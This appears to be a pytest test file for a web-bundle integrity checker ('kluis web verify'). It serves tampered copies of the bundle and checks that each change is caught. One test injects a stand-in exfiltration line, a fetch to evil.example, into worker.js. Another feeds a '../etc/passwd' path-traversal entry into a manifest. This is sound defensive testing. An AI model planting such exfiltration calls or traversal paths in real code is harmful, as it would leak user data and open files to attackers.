"""`kluis web verify URL` (client_sdk/webverify.py): a real Kluis server app, on a loopback port,
serves a copy of the built bundle; the check passes on the copy as built and names the file when
the server serves one changed byte, an extra script line, a missing file or a weaker header.

Also: the build's own output agrees with itself (manifest.json lists every file with its hash,
index.html's `integrity` values are those of the files, main.js carries worker.js's hash)."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
import uvicorn

from client_sdk.errors import ClientError, ServerUnreachable
from client_sdk.webverify import (
    WebManifest,
    installed_manifest_path,
    load_installed_manifest,
    verify_web,
    web_verify_command,
)
from server.app import create_app
from server.config import Settings
from server.routes import web
from vault.errors import IntegrityError

BUILT = installed_manifest_path().parent


def sri(data: bytes) -> str:
    return "sha384-" + base64.b64encode(hashlib.sha384(data).digest()).decode()


class ServedBundle:
    """A Kluis server app serving `root` (a copy of the built bundle) on a free loopback port."""

    def __init__(self, root: Path, data_dir: Path) -> None:
        self.root = root
        with socket.socket() as sock:
            sock.bind(("127.0.0.1", 0))
            self.port = sock.getsockname()[1]
        app = create_app(Settings(data_dir=data_dir), web_dir=root)
        self.server = uvicorn.Server(
            uvicorn.Config(app, host="127.0.0.1", port=self.port, log_level="warning")
        )
        self.thread = threading.Thread(target=self.server.run, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def __enter__(self) -> ServedBundle:
        self.thread.start()
        deadline = time.monotonic() + 30
        while not self.server.started:
            if time.monotonic() > deadline or not self.thread.is_alive():
                raise RuntimeError("the test server did not start")
            time.sleep(0.02)
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.should_exit = True
        self.thread.join(timeout=30)


@pytest.fixture
def served(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[ServedBundle]:
    for name in list(os.environ):
        if name.startswith("KLUIS_"):
            monkeypatch.delenv(name)
    root = tmp_path / "static"
    shutil.copytree(BUILT, root)
    with ServedBundle(root, tmp_path / "data") as running:
        yield running


def test_the_served_bundle_as_built_passes(served: ServedBundle) -> None:
    report = verify_web(served.url + "/")
    assert report.ok
    checked = {f.path for f in report.files}
    assert {"index.html", "assets/main.js", "assets/worker.js", "assets/style.css"} <= checked


def test_the_command_prints_one_line_per_file(served: ServedBundle) -> None:
    lines: list[str] = []
    web_verify_command(served.url, echo=lines.append)
    assert "ok  assets/worker.js" in lines
    assert "serves the web app of this Kluis package" in lines[-2]


@pytest.mark.parametrize("path", ["assets/worker.js", "assets/main.js", "index.html"])
def test_one_changed_byte_is_caught_and_the_file_named(served: ServedBundle, path: str) -> None:
    target = served.root / path
    data = bytearray(target.read_bytes())
    data[len(data) // 2] ^= 0x01
    target.write_bytes(bytes(data))
    with pytest.raises(IntegrityError, match=re.escape(f"{path}: other bytes")) as caught:
        verify_web(served.url)
    others = {"index.html", "assets/main.js", "assets/worker.js"} - {path}
    assert not any(f"{other}:" in str(caught.value) for other in others)


def test_an_added_script_line_is_caught_by_the_command(served: ServedBundle) -> None:
    target = served.root / "assets" / "worker.js"
    target.write_bytes(target.read_bytes() + b'\nfetch("https://evil.example/?k=" + 1);\n')
    lines: list[str] = []
    with pytest.raises(IntegrityError, match=re.escape("assets/worker.js")):
        web_verify_command(served.url, echo=lines.append)
    assert "NOT the web app" in lines[-1]


def test_kluis_web_verify_exits_0_on_the_bundle_as_built_and_3_on_a_changed_byte(
    served: ServedBundle,
) -> None:
    kluis = str(Path(sys.executable).with_name("kluis"))
    same = subprocess.run([kluis, "web", "verify", served.url], capture_output=True, text=True)
    assert same.returncode == 0, same.stderr
    assert "serves the web app of this Kluis package" in same.stdout
    target = served.root / "assets" / "worker.js"
    target.write_bytes(target.read_bytes() + b"\n")
    changed = subprocess.run([kluis, "web", "verify", served.url], capture_output=True, text=True)
    assert changed.returncode == 3
    assert "assets/worker.js" in changed.stdout + changed.stderr


def test_a_missing_file_is_caught(served: ServedBundle) -> None:
    (served.root / "assets" / "style.css").unlink()
    missing = "assets/style.css: the server answered HTTP 404"
    with pytest.raises(IntegrityError, match=re.escape(missing)):
        verify_web(served.url)


def test_a_page_without_integrity_policy_is_caught(
    served: ServedBundle, monkeypatch: pytest.MonkeyPatch
) -> None:
    headers = {k: v for k, v in web.WEB_HEADERS.items() if k != "integrity-policy"}
    monkeypatch.setattr(web, "WEB_HEADERS", headers)
    with pytest.raises(IntegrityError, match=re.escape("index.html: the Integrity-Policy header")):
        verify_web(served.url)


def test_a_page_whose_csp_allows_inline_script_is_caught(
    served: ServedBundle, monkeypatch: pytest.MonkeyPatch
) -> None:
    csp = web.CONTENT_SECURITY_POLICY.replace(
        "script-src 'self' 'wasm-unsafe-eval'",
        "script-src 'self' 'wasm-unsafe-eval' 'unsafe-inline'",
    )
    monkeypatch.setattr(web, "WEB_HEADERS", {**web.WEB_HEADERS, "content-security-policy": csp})
    with pytest.raises(
        IntegrityError, match=re.escape("index.html: the Content-Security-Policy allows")
    ):
        verify_web(served.url)


def test_a_server_that_cannot_be_reached_is_not_a_mismatch(closed_port_url: str) -> None:
    with pytest.raises(ServerUnreachable):
        verify_web(closed_port_url)


@pytest.mark.parametrize(
    "document",
    [
        {"format": "other", "files": []},
        {"format": "kluis-web-manifest/1", "files": []},
        {
            "format": "kluis-web-manifest/1",
            "files": [{"path": "../etc/passwd", "size": 1, "sha384": "0" * 96}],
        },
        {
            "format": "kluis-web-manifest/1",
            "files": [{"path": "assets/main.js", "size": 1, "sha384": "0" * 96}],
        },
    ],
)
def test_a_damaged_manifest_is_refused(document: object) -> None:
    with pytest.raises(ClientError):
        WebManifest.from_bytes(json.dumps(document).encode())


# -- the build's own output ------------------------------------------------------------------------
def test_the_manifest_lists_every_file_of_the_bundle_with_its_hash() -> None:
    manifest = load_installed_manifest()
    on_disk = {
        p.relative_to(BUILT).as_posix()
        for p in BUILT.rglob("*")
        if p.is_file() and p.name != "manifest.json"
    }
    assert {f.path for f in manifest.files} == on_disk
    for entry in manifest.files:
        data = (BUILT / entry.path).read_bytes()
        assert (len(data), hashlib.sha384(data).hexdigest()) == (entry.size, entry.sha384)


def test_every_script_and_style_of_the_page_carries_its_integrity() -> None:
    page = (BUILT / "index.html").read_text()
    tags = re.findall(r"<(?:script|link)\b[^>]*>", page)
    loaded = [t for t in tags if "assets/main.js" in t or 'rel="stylesheet"' in t]
    assert len(loaded) == 2
    for tag in loaded:
        name = re.search(r'(?:src|href)="(assets/[^"]+)"', tag)
        assert name is not None
        assert f'integrity="{sri((BUILT / name.group(1)).read_bytes())}"' in tag
    # No other script: every <script> is main.js.
    assert [t for t in tags if t.startswith("<script")] == [
        t for t in loaded if t.startswith("<script")
    ]
    # main.js checks the worker against the worker's own hash.
    assert (
        sri((BUILT / "assets" / "worker.js").read_bytes())
        in (BUILT / "assets" / "main.js").read_text()
    )
